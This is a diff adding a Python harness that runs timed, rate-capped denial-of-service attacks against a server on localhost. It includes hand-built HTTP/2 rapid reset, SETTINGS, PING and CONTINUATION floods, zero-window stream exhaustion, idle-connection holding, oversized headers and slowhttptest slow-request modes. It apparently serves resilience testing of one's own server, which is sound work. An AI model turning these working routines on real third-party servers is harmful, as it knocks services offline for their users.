@@ -1,0 +1,214 @@
+"""What a hostile client does, each for so many seconds and at most so often, to a server on this machine.
+
+Frames are made by hand: a library for HTTP/2 keeps the rules that are to be broken. An attack whose connection the
+server ends takes a new one. Each returns what came of it, in words.
+"""
+import itertools
+import re
+import socket
+import struct
+import subprocess
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+AUTHORITY = b"\x41\x09localhost"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def head(path):
+    """GET, http, path, authority: HPACK without a table of its own."""
+    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"
+
+
+def connect(port):
+    opened = socket.create_connection(("127.0.0.1", port), timeout=2)
+    opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return opened
+
+
+class Flood:
+    """Sends without an end what `batch` makes, and reads what comes; over HTTP/2."""
+
+    def __init__(self, port, seconds, most=2_000_000):
+        self.port, self.end, self.most = port, time.monotonic() + seconds, most
+        self.sent = self.connections = 0
+        self.told = {}
+
+    def run(self, batch, of):
+        """`of` is what there is in a batch."""
+        while time.monotonic() < self.end and self.sent < self.most:
+            try:
+                self._one(batch, of)
+            except OSError:
+                # A server that hangs up on this is right, and one that is met again at once is met often.
+                time.sleep(0.01)
+        codes = ", ".join(f"GOAWAY {code} × {count}" for code, count in sorted(self.told.items()))
+        return f"{self.sent} sent on {self.connections} connections; {codes or 'no GOAWAY'}"
+
+    def _one(self, batch, of):
+        with connect(self.port) as opened:
+            self.connections += 1
+            opened.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            streams = itertools.count(1, 2)
+            left = b""
+            while time.monotonic() < self.end and self.sent < self.most:
+                try:
+                    opened.sendall(batch(streams))
+                    self.sent += of
+                    opened.setblocking(False)
+                    while part := opened.recv(1 << 16):
+                        left = self._read(left + part)
+                    return
+                except BlockingIOError:
+                    opened.settimeout(2)
+                except ConnectionError:
+                    self._read(left)
+                    raise
+
+    def _read(self, bytes_):
+        while len(bytes_) >= 9:
+            length = int.from_bytes(bytes_[:3], "big")
+            if len(bytes_) < 9 + length:
+                break
+            if bytes_[3] == GOAWAY:
+                code = int.from_bytes(bytes_[13:17], "big")
+                self.told[code] = self.told.get(code, 0) + 1
+            bytes_ = bytes_[9 + length:]
+        return bytes_
+
+
+def rapid_reset(port, seconds):
+    block = head(b"/rss.xml")
+
+    def batch(streams):
+        parts = []
+        for stream in itertools.islice(streams, 100):
+            parts += frame(HEADERS, END_STREAM | END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+        return b"".join(parts)
+    return Flood(port, seconds).run(batch, 100)
+
+
+def settings_flood(port, seconds):
+    flood = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200
+    return Flood(port, seconds).run(lambda _: flood, 200)
+
+
+def ping_flood(port, seconds):
+    flood = frame(PING, 0, 0, b"12345678") * 200
+    return Flood(port, seconds).run(lambda _: flood, 200)
+
+
+def continuation_flood(port, seconds):
+    """A head that never ends, of fields that each are small."""
+    more = frame(CONTINUATION, 0, 1, (b"\x00\x04x-xx\x40" + b"y" * 64) * 100) * 10
+
+    def batch(streams):
+        if next(streams) == 1:
+            return frame(HEADERS, END_STREAM, 1, head(b"/rss.xml")) + more
+        return more
+    return Flood(port, seconds, 100_000).run(batch, 10)
+
+
+def many_streams(port, seconds):
+    """All streams that there may be, and no room for any of their bytes: what is asked for stays with the server."""
+    block, opened, refused = head(b"/sitemap.xml"), [], 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end and len(opened) < 50:
+        try:
+            one = connect(port)
+            ask = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * stream + 1, block) for stream in range(100))
+            # SETTINGS_INITIAL_WINDOW_SIZE of nothing.
+            one.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(ask))
+            opened.append(one)
+        except OSError:
+            refused += 1
+    time.sleep(max(0, end - time.monotonic()))
+    return f"{len(opened)} connections of 100 streams, {refused} refused"
+
+
+def idle(port, seconds, count=2000):
+    """Connections that were used once, and are kept."""
+    end, opened = time.monotonic() + seconds, []
+    for _ in range(count):
+        one = connect(port)
+        one.sendall(b"GET /robots.txt HTTP/1.1\r\nHost: localhost\r\n\r\n")
+        opened.append(one)
+        one.recv(4096)
+    time.sleep(max(0, end - time.monotonic()))
+    return f"{len(opened)} connections"
+
+
+def not_found(port, seconds, count=10_000):
+    """So many addresses where nothing is, once; in pipelines of ten."""
+    end, asked = time.monotonic() + seconds, 0
+    one = connect(port)
+    statuses = {}
+    while asked < count and time.monotonic() < end:
+        lines = (f"GET /no/such/{asked + at}.xml HTTP/1.1\r\nHost: localhost\r\n\r\n" for at in range(10))
+        one.sendall("".join(lines).encode())
+        asked += 10
+        got = b""
+        while got.count(b"HTTP/1.1 ") < 10 or not got.endswith(b"\n"):
+            part = one.recv(1 << 16)
+            if not part:
+                one = connect(port)
+                break
+            got += part
+        for answer in got.split(b"HTTP/1.1 ")[1:]:
+            statuses[answer[:3].decode()] = statuses.get(answer[:3].decode(), 0) + 1
+    return f"{asked} addresses: {statuses}"
+
+
+def huge_heads(port, seconds):
+    """Heads of 1 MB in one field, and of ten thousand fields, by turns."""
+    one_field = b"GET /rss.xml HTTP/1.1\r\nHost: localhost\r\nX: " + b"x" * (1 << 20) + b"\r\n\r\n"
+    many = b"GET /rss.xml HTTP/1.1\r\nHost: localhost\r\n" + b"X: y\r\n" * 10_000 + b"\r\n"
+    long = b"GET /" + b"x" * (1 << 20) + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
+    end, answers = time.monotonic() + seconds, {}
+    for request in itertools.cycle([one_field, many, long]):
+        if time.monotonic() > end:
+            break
+        try:
+            with connect(port) as one:
+                try:
+                    one.sendall(request)
+                except OSError:
+                    pass
+                told = one.recv(12)[9:12].decode() or "hung up"
+        except OSError as error:
+            told = type(error).__name__
+        answers[told] = answers.get(told, 0) + 1
+    return f"{sum(answers.values())} heads: {answers}"
+
+
+def slow(*mode):
+    def attack(port, seconds):
+        command = ["slowhttptest", *mode, "-c", "1000", "-r", "200", "-l", str(int(seconds)), "-p", "3", "-v", "1",
+                   "-u", f"http://127.0.0.1:{port}/sitemap.xml"]
+        done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors="replace",
+                              timeout=seconds + 30).stdout
+        plain = re.sub(r"\x1b\[[0-9;]*m", "", done)
+        states = re.findall(r"^(connected|closed|error|service available):\s*(\S+)", plain, re.M)
+        return "1000 connections; " + ", ".join(f"{name} {count}" for name, count in dict(states).items())
+    return attack
+
+
+ATTACKS = {
+    "slow heads (`slowhttptest -H`)": slow("-H", "-i", "2", "-x", "24"),
+    "slow bodies (`-B`)": slow("-B", "-i", "2", "-s", "8192", "-x", "24"),
+    "slow reading (`-X`)": slow("-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"),
+    "ranges (`-R`)": slow("-R", "-a", "5", "-b", "2000"),
+    "2,000 idle connections": idle,
+    "rapid reset": rapid_reset,
+    "SETTINGS flood": settings_flood,
+    "PING flood": ping_flood,
+    "CONTINUATION flood": continuation_flood,
+    "streams that are not read": many_streams,
+    "10,000 addresses where nothing is": not_found,
+    "huge heads": huge_heads,
+}
